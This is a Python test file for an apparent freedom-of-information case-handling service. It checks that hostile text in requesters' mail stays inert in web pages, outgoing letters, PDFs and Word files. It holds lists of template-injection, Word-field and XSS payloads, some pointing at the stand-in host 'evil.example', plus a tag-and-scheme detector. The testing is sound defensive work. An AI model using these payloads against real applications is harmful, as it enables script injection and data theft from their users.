"""What a hostile requester, or a careless officer, writes stays text from the mail that came to the mail that goes."""

import re
from email import message_from_bytes, policy
from email.headerregistry import Address
from email.message import EmailMessage
from html import unescape
from html.parser import HTMLParser
from io import BytesIO

import pytest
from docx import Document
from docx.oxml.ns import qn

from mail.parse import parse
from mail.sender import senders
from service.casework.assign import assign
from service.casework.record import officer_actor
from service.desk import Desk
from service.domain.message import IncomingMessage
from service.store.cases import case_by_reference
from service.store.correspondence import letters_of_case
from service.store.database import reading, transaction
from service.store.tables import Letter
from tests.builders import open_a_case
from tests.unit.service.documents.test_pdf import squeezed, words_in
from tests.unit.web.conftest import Browser
from tests.unit.web.test_response import draft, override_all

ATTACKS = (
    "{{7*7}} {% include 'emails/digest/body.txt' %} {# gone #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {{ config.items() }}",
    "${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(reference)s",
    '#eval("7*7") #read("/etc/passwd") #include "/etc/hosts" $x^2$ @cite',
    "{ DATE } { INCLUDETEXT C:/secret } MERGEFIELD name <w:fldSimple w:instr='DATE'/> ]]>",
    "<script>alert(7)</script><img src=x onerror=alert(7)> &lt;b&gt; </textarea></title>",
)
FIELDS = ("fldSimple", "instrText", "fldChar", "altChunk", "object")
RUNS = frozenset(
    {"script", "object", "embed", "applet", "base", "form", "input", "button", "iframe", "frame", "meta", "link"}
    | {"svg", "math", "video", "audio", "img", "picture", "source", "animate", "foreignobject"}
)
HTML_ATTACKS = (
    "<script>alert('owned')</script>",
    "<img src=x onerror=alert('owned')>",
    "<svg onload=alert('owned')><animate onbegin=alert('owned') attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert('owned')></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'; p{background:url(https://evil.example/y)}</style><p>x</p>",
    "<p style=\"background:url('https://evil.example/z')\">x</p>",
    "<a href=\"javascript:alert('owned')\">x</a><a href='data:text/html,<script>1</script>'>y</a>",
    "<a href='java&#x09;script:alert(1)'>x</a><a href='&#1;javascript:alert(1)'>y</a>",
    "<iframe srcdoc=\"<script>alert('owned')</script>\"></iframe><object data=x></object><embed src=x>",
    "<form action=https://evil.example/><input name=p><button formaction=https://evil.example/>x</button></form>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "</body></html><script>alert('owned')</script>",
    "<p onclick=alert(1) onmouseover=alert(2)>x</p><body onload=alert(3)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">x</p></noscript>",
)  # fmt: skip


class Tags(HTMLParser):
    """The tags of a page, each with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def read(words: EmailMessage) -> IncomingMessage:
    message = parse(words.as_bytes(policy=policy.SMTP))
    assert isinstance(message, IncomingMessage)
    return message


def a_mail(text: str, *, subject: str = "Trees", name: str = "Harriet Bell", html: str = "") -> EmailMessage:
    """A mail as a machine of the requester's own would write it."""
    mail = EmailMessage()
    mail["From"] = Address(name, addr_spec="mallory@example.net")
    mail["To"], mail["Subject"], mail["Message-ID"] = "foi@anytown.example", subject, "<attack-1@example.net>"
    mail["Date"] = "Mon, 3 Jun 2024 09:00:00 +0100"
    mail.set_content(text)
    if html:
        mail.add_alternative(html, subtype="html")
    return mail


def a_case(desk: Desk, mail: EmailMessage) -> str:
    """The reference of the case that a mail opens, which the officer of the seed is given."""
    with transaction(desk.engine) as session:
        case = open_a_case(session, desk, read(mail))
        assign(session, desk, case, 1, at=desk.now(), by=officer_actor(1))
        return case.reference


def answer(officer: Browser, reference: str, attack: str) -> None:
    """Note, question, decision, draft and sending through the pages, with the attack in every field."""
    case = f"/cases/{reference}"
    officer.get(case)
    assert officer.post(f"{case}/notes", note=attack).status_code == 302
    asked = {"rows": "2", "position-1": "0", "text-1": attack, "position-2": "0", "text-2": "And who paid?"}
    assert officer.post(f"{case}/questions", **asked).status_code == 302
    limb = {"citation-1": "31(1)(a)", "grounds": "1", "step": "save"}
    weighed = {f"{name}-1": attack for name in ("harm", "for", "against", "conclusion")}
    part = {"decision": "disclose in part", "holding": "held", "answer": attack}
    for number, decided in ((1, part | limb | weighed), (2, {"decision": "disclose", "holding": "held"})):
        officer.get(f"{case}/questions/{number}")
        posted = officer.post(f"{case}/questions/{number}", **({"answer": attack, "step": "save"} | decided))
        assert posted.status_code == 302, number
    assert officer.post(f"{case}/response/compose").status_code == 302
    override_all(officer, f"{case}/response")


def sent(desk: Desk, reference: str) -> Letter:
    with reading(desk.engine) as session:
        letters = letters_of_case(session, case_by_reference(session, reference).id)
        return max((one for one in letters if one.kind == "part-refusal"), key=lambda one: one.id)


def mailed(desk: Desk, letter: Letter) -> EmailMessage:
    """The letter as it leaves for the mail server."""
    return message_from_bytes(senders(desk.settings)[0].mail(desk, letter), policy=policy.default)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_people_wrote_leaves_as_text_in_the_mail_the_pdf_and_the_word_file(
    officer: Browser, desk: Desk, attack: str
) -> None:
    reference = a_case(desk, a_mail(f"Please tell me:\n\n{attack}\n", subject=attack, name=attack[:60]))
    answer(officer, reference, attack)
    path = f"/cases/{reference}/response"
    version = draft(desk, reference).version
    word = Document(BytesIO(officer.get(f"{path}/{version}.docx").data))
    assert officer.post(f"{path}/clearance").status_code == 302
    assert officer.post(f"{path}/send").status_code == 302
    mail = mailed(desk, sent(desk, reference))
    body, pdf = mail.get_body(("plain",)), next(mail.iter_attachments())
    assert body is not None
    body_text, pdf_text = squeezed(body.get_content()), words_in(pdf.get_content())
    word_text = squeezed("".join(line.text for line in word.paragraphs))
    for where in (body_text.replace(">>", ">"), pdf_text, word_text):
        assert where.count(squeezed(attack)) >= 6, where  # five fields of the decision and the question
        assert "root:x:0" not in where
        assert not re.search(r"(?<!\d)49(?!\d)", where)
    assert [tag for tag in FIELDS if next(word.element.iter(qn(f"w:{tag}")), None) is not None] == []
    assert squeezed(attack[:60]) in body_text


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_people_wrote_is_text_on_every_page_of_the_case(officer: Browser, desk: Desk, attack: str) -> None:
    reference = a_case(desk, a_mail(attack, subject=attack, name=attack[:60]))
    answer(officer, reference, attack)
    case = f"/cases/{reference}"
    for path in (case, f"{case}/questions", f"{case}/questions/1", f"{case}/response", f"{case}/triage"):
        page = officer.get(path).text
        assert attack in unescape(page), path
        assert harmful(page, ours=True) == [], path
    for path in ("/list/open", "/search?q=mallory", f"{case}/response/versions/1"):
        page = officer.get(path).text
        assert reference in page, path
        assert harmful(page, ours=True) == [], path


def harmful(page: str, *, ours: bool) -> list[tuple[str, dict[str, str]]]:
    """The tags that would run, load or lead somewhere; on our own pages our forms and frames are no harm."""
    own = {"meta", "link", "form", "input", "button", "iframe", "svg", "img"} if ours else {"meta"}
    return [
        (tag, attributes)
        for tag, attributes in Tags(page).found
        if (tag in RUNS - own and not (ours and tag == "script" and attributes.get("src", "").startswith("/static/")))
        or any(name.startswith("on") or name in ("srcdoc", "http-equiv") for name in attributes)
        or ("formaction" in attributes and not (ours and attributes["formaction"].startswith("/cases/")))
        or any(leads_out(attributes.get(name, "")) for name in ("href", "src", "action", "style", "background"))
    ]


def leads_out(value: str) -> bool:
    plain = re.sub(r"[\x00-\x20]", "", value).lower()
    return plain.startswith(("javascript:", "data:", "vbscript:")) or "evil.example" in plain


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_a_requesters_html_runs_nothing_in_the_officers_browser(officer: Browser, desk: Desk, attack: str) -> None:
    html = f"<html><body><p>How many trees were felled?</p>{attack}</body></html>"
    reference = a_case(desk, a_mail("How many trees were felled?", html=html))
    page = officer.get(f"/cases/{reference}")
    assert harmful(page.text, ours=True) == []
    policy = page.headers["Content-Security-Policy"].split("; ")
    assert "script-src 'self'" in policy  # our files alone: nothing within the page, and no other site's
    assert not any("unsafe" in part for part in policy)
    frames = [attributes for tag, attributes in Tags(page.text).found if tag == "iframe"]
    assert [frame["sandbox"] for frame in frames] == [""]
    shown = officer.get(frames[0]["src"])
    assert "How many trees were felled?" in shown.text
    assert harmful(shown.text, ours=False) == []
    assert not re.search("onerror|url\\(|@import", shown.text)
    policies = shown.headers["Content-Security-Policy"].split("; ")
    assert {"default-src 'none'", "sandbox"} <= set(policies)
    assert not [one for one in policies if one.startswith(("script-src", "img-src", "connect-src"))]


def test_a_hostile_mail_without_any_text_part_is_a_case_like_another(officer: Browser, desk: Desk) -> None:
    mail = a_mail("x")
    mail.set_content(f"<p>How many trees?</p>{''.join(HTML_ATTACKS)}", subtype="html")
    page = officer.get(f"/cases/{a_case(desk, mail)}").text
    assert "How many trees?" in page
    assert harmful(page, ours=True) == []
